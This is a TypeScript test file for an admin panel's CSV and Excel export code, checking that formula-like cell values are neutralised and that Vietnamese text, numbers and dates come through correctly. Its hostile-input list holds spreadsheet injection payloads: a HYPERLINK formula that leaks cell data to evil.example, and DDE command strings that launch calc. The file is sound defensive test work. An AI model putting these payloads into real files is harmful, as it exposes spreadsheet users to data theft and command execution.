/**
 * The panel's CSV and Excel exports (admin/src/common/exportCells.ts), built in node from rows
 * with hostile values and read back with the libraries a spreadsheet user's tools would use:
 * no formula anywhere, hostile text neutralised, everything else unchanged, dates as dates.
 */
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { buildCsv, buildXlsx, dateCell, dateTimeCell, FORMULA_TRIGGER, type ExportCell } from '../admin/src/common/exportCells';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?d="&B2,"x")',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3',
  '-5',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  // A line break after the first character: papaparse's own default pattern misses this one.
  '=1+1\nghi chú',
  '=HYPERLINK("http://evil.example")\r\n',
];
const HARMLESS = [
  'Nguyễn Thị Hoà',
  'a=b',
  'x\n=1+1',
  'Lê Văn "Nam"',
  'dòng 1\r\ndòng 2',
  'Đặng; Lê',
  ' =1+1 ',
  '0912345678',
  '',
];

const header = ['Họ và tên', 'Số', 'Ngày vào công đoàn', 'Cập nhật lúc'];
const JOINED = dateCell('2024-03-07');
const UPDATED = dateTimeCell('2025-11-30T17:05:00.000Z');
const rows: ExportCell[][] = [
  ...HOSTILE.map((v) => [v, 1, JOINED, UPDATED]),
  ...HARMLESS.map((v) => [v, -5, dateCell('1988-05-12'), null]),
  ['Số thực âm', -1234.5, dateCell('not a date'), ''],
];

describe('CSV export', () => {
  let text: string;
  let table: string[][];
  beforeAll(async () => {
    text = await buildCsv(header, rows);
    const parsed = Papa.parse<string[]>(text.replace(/^\ufeff/, ''), { newline: '\r\n' });
    expect(parsed.errors).toEqual([]);
    table = parsed.data;
  });

  test('starts with a UTF-8 BOM, so that Excel reads Vietnamese as UTF-8', () => {
    expect([...Buffer.from(text, 'utf8').subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(table[0]).toEqual(header);
  });

  test('a text cell that starts like a formula gets an apostrophe; the rest is unchanged', () => {
    expect(table.length).toBe(1 + rows.length);
    HOSTILE.forEach((v, i) => expect(table[1 + i][0]).toBe(`'${v}`));
    HARMLESS.forEach((v, i) => expect(table[1 + HOSTILE.length + i][0]).toBe(v));
  });

  test('no cell left that a spreadsheet would read as a formula; negative numbers stay numbers', () => {
    for (const row of table)
      for (const cell of row) if (FORMULA_TRIGGER.test(cell)) expect(cell).toMatch(/^-\d+(\.\d+)?$/);
    // The number -5 is written bare (a number for Excel), the text '-5' escaped.
    expect(table[1 + HOSTILE.length][1]).toBe('-5');
    expect(table[rows.length][1]).toBe('-1234.5');
    expect(text).toContain(`"'-5",1,`);
  });

  test('dates as dd/mm/yyyy text, date-times in local time; a value that is not a date is kept', () => {
    expect(table[1][2]).toBe('07/03/2024');
    expect(table[1 + HOSTILE.length][2]).toBe('12/05/1988');
    const at = new Date('2025-11-30T17:05:00.000Z');
    const p = (n: number) => String(n).padStart(2, '0');
    expect(table[1][3]).toBe(`${p(at.getDate())}/${p(at.getMonth() + 1)}/${at.getFullYear()} ${p(at.getHours())}:${p(at.getMinutes())}`);
    expect(table[rows.length][2]).toBe('not a date');
  });

  test('a value with a semicolon is quoted (Excel under a Vietnamese locale splits on it)', () => {
    expect(text).toContain('"Đặng; Lê"');
  });
});

/** A carriage return in an XML text node reads back as a line feed (XML's end-of-line rule). */
const xml = (v: string) => v.replace(/\r\n?/g, '\n');

describe('Excel export', () => {
  let ws: ExcelJS.Worksheet;
  const cells: ExcelJS.Cell[] = [];
  beforeAll(async () => {
    // Objects ExcelJS would turn into a formula or a link, if the panel ever passed one through.
    const sneaky = [
      [{ formula: 'HYPERLINK("http://evil.example","x")', result: 'x' } as unknown as ExportCell, 1, null, null],
      [{ text: 'x', hyperlink: 'http://evil.example' } as unknown as ExportCell, 2, null, null],
    ];
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await buildXlsx('Đoàn viên: [Thanh Hoá]', header, [...rows, ...sneaky])) as ArrayBuffer);
    ws = wb.worksheets[0];
    ws.eachRow({ includeEmpty: false }, (row) => row.eachCell({ includeEmpty: false }, (c) => void cells.push(c)));
  });

  test('no formula and no link in any cell', () => {
    expect(ws.rowCount).toBe(1 + rows.length + 2);
    expect(cells.length).toBeGreaterThan(rows.length * 3);
    for (const c of cells) {
      expect(c.type).not.toBe(ExcelJS.ValueType.Formula);
      expect(c.type).not.toBe(ExcelJS.ValueType.Hyperlink);
      expect(c.formula).toBeUndefined();
    }
    expect(ws.getCell(rows.length + 2, 1).value).toBe('[object Object]');
  });

  test('text that starts like a formula is stored unchanged as text, in the Text format', () => {
    HOSTILE.forEach((v, i) => {
      const c = ws.getCell(2 + i, 1);
      expect(c.type).toBe(ExcelJS.ValueType.String);
      expect(c.value).toBe(xml(v));
      expect(c.numFmt).toBe('@');
    });
  });

  test('other text unchanged and in the General format; numbers (negative too) are numbers', () => {
    HARMLESS.filter((v) => v !== '').forEach((v) => {
      const i = HARMLESS.indexOf(v);
      const c = ws.getCell(2 + HOSTILE.length + i, 1);
      expect(c.type).toBe(ExcelJS.ValueType.String);
      expect(c.value).toBe(xml(v));
      expect(c.numFmt).not.toBe('@');
    });
    expect(ws.getCell(2 + HOSTILE.length, 2).type).toBe(ExcelJS.ValueType.Number);
    expect(ws.getCell(2 + HOSTILE.length, 2).value).toBe(-5);
    expect(ws.getCell(1 + rows.length, 2).value).toBe(-1234.5);
    expect(ws.getCell(1, 1).value).toBe('Họ và tên');
    expect(ws.getRow(1).getCell(1).font?.bold).toBe(true);
  });

  test('dates are real dates shown as dd/mm/yyyy; date-times carry the local wall-clock time', () => {
    const d = ws.getCell(2, 3);
    expect(d.type).toBe(ExcelJS.ValueType.Date);
    expect(d.value).toEqual(new Date(Date.UTC(2024, 2, 7)));
    expect(d.numFmt).toBe('dd/mm/yyyy');
    expect(ws.getCell(2 + HOSTILE.length, 3).value).toEqual(new Date(Date.UTC(1988, 4, 12)));

    const t = ws.getCell(2, 4);
    expect(t.type).toBe(ExcelJS.ValueType.Date);
    expect(t.numFmt).toBe('dd/mm/yyyy hh:mm');
    const at = new Date('2025-11-30T17:05:00.000Z');
    expect(t.value).toEqual(new Date(Date.UTC(at.getFullYear(), at.getMonth(), at.getDate(), at.getHours(), at.getMinutes())));

    // Not a date: kept as the text it was.
    expect(ws.getCell(1 + rows.length, 3).value).toBe('not a date');
  });

  test('the sheet name drops the characters Excel refuses', () => {
    expect(ws.name).toBe('Đoàn viên Thanh Hoá');
  });
});
